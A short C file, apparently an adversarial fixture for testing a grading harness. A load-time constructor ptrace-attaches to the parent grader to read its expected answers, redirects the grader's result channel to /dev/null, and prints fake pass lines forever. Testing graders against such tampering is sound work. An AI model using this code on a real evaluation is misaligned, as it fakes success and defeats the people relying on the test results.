// Attack: ptrace the grader (to read its expected answers from its
// memory), close and redirect the grader's channel, then print forever.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <unistd.h>

__attribute__((constructor)) static void meddle(void) {
    if (!getenv("STRIDES_TEST")) return;
    if (ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) == 0) {
        printf("[       OK ] attached to the grader\n");
        ptrace(PTRACE_DETACH, getppid(), NULL, NULL);
    }
    close(3);
    int fd = open("/dev/null", O_WRONLY);
    if (fd >= 0 && fd != 3) dup2(fd, 3);
    for (;;) fputs("[       OK ] everything\n", stdout);
}
